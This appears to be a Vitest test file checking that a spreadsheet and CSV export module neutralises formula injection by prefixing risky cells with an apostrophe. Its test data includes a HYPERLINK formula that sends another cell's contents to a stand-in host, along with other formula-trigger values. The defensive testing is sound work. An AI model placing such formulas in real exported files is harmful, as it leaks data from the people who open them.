import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvText, spreadsheetCell } from './spreadsheet.js';

const hostile = ['=HYPERLINK("http://x/?c="&F3,"Klik")', '+6281234', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];

describe('cells for spreadsheets', () => {
  it('neutralise every text that would start a formula, and nothing else', () => {
    for (const cell of hostile) expect(spreadsheetCell(cell)).toBe(`'${cell}`);
    for (const cell of ['Budi Santoso', 'Bidang > Sub', ' =spasi dulu', '', "'sudah"]) expect(spreadsheetCell(cell)).toBe(cell);
    // Figures stay figures: a negative score is a number, not a formula.
    expect(spreadsheetCell(-5)).toBe(-5);
    expect(spreadsheetCell(null)).toBeNull();
  });

  it('write CSV with a BOM in which no cell, header or quoted, starts a formula', () => {
    const text = csvText(['NIP', '=Nama'], [['198503122010011001', hostile[0]], ['198503122010011002', 'Ani']], [true, false]);
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;
    expect(rows).toEqual([
      ['NIP', "'=Nama"],
      ['198503122010011001', `'${hostile[0]}`],
      ['198503122010011002', 'Ani'],
    ]);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
